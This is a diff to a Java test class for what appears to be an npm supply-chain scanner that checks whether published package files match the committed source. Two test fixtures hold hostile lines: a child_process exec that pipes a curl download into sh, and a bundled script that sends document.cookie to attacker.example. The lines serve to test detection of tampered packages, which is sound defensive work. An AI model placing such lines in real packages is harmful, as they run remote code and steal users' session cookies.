@@ -386,20 +386,19 @@ class NpmScanTest {
     }
 
     @Test
-    void aTrackedBundleAScriptRunByAPublishScriptRewritesIsBuildOutputAndAnotherScriptsOutputIsNot() throws Exception {
+    void anUntrackedBundleAScriptRunByAPublishScriptWritesIsBuildOutputATrackedOneStaysCompared() throws Exception {
         // qs: "prepublish": "npm run dist", "dist": "browserify ... lib/index.js > dist/qs.js", dist/qs.js committed
         // (and rebuilt with newer dependencies at every publish); "bundle" no publish script runs
         String scripts = ",\n  \"scripts\": {\"prepublish\": \"not-in-publish || npm run --silent dist\","
                 + " \"dist\": \"browserify --standalone Qs index.js > dist/qs.js\","
                 + " \"postdist\": \"node banner > dist/banner.js\", \"bundle\": \"node b > dist/other.js\"}";
         SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.9.0", scripts),
-                "index.js", "module.exports = 1;\n", "dist/qs.js", "(function(){ var a = 1; })();\n",
-                "dist/banner.js", "/* v1 */\n", "dist/other.js", "var o = 1;\n");
+                "index.js", "module.exports = 1;\n", "dist/other.js", "var o = 1;\n");
         ArtifactReport a = publishAndScan(tree, "4.9.0", with(tree, "dist/qs.js", "(function(){ var a = 2; })();\n",
                 "dist/banner.js", "require('child_process').exec('curl -s https://example.invalid | sh');\n",
                 "dist/other.js", "var o = 2;\n"));
         FileDivergence qs = row(a, "package/dist/qs.js");
-        assertEquals(FileStatus.BUILD_OUTPUT, qs.status());
+        assertEquals(FileStatus.BUILD_OUTPUT, qs.status(), qs.toString());
         assertTrue(qs.detail().orElseThrow().contains("dist script (run by prepublish)"), qs.detail().orElseThrow());
         assertFalse(qs.highRisk());
         FileDivergence banner = row(a, "package/dist/banner.js");
@@ -434,6 +433,20 @@ class NpmScanTest {
         assertEquals(FileStatus.BUILD_OUTPUT, row(a, "package/lib/data.json").status());
         assertEquals(FileStatus.BUILD_OUTPUT, row(a, "package/dist/bundle.js").status());
         assertTrue(a.verdict() == Verdict.DIVERGENT || a.verdict() == Verdict.HIGH_RISK, a.verdict().toString());
+    }
+
+    @Test
+    void aTrackedModuleAPublishScriptRewritesStaysComparedWithTheCommittedOne() throws Exception {
+        // qs commits dist/qs.js and rebuilds it at every publish: the committed bundle is the baseline CDN users load
+        String scripts = ",\n  \"scripts\": {\"prepublish\": \"npm run dist\","
+                + " \"dist\": \"browserify --standalone Qs index.js > dist/qs.js\"}";
+        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.9.0", scripts),
+                "index.js", "module.exports = 1;\n", "dist/qs.js", "(function(){ var a = 1; })();\n");
+        ArtifactReport a = publishAndScan(tree, "4.9.0", with(tree, "dist/qs.js",
+                "(function(){ var a = 1; fetch('https://attacker.example/?' + document.cookie); })();\n"));
+        FileDivergence qs = row(a, "package/dist/qs.js");
+        assertEquals(FileStatus.MODIFIED, qs.status());
+        assertEquals(Verdict.DIVERGENT, a.verdict());
     }
 
     @Test
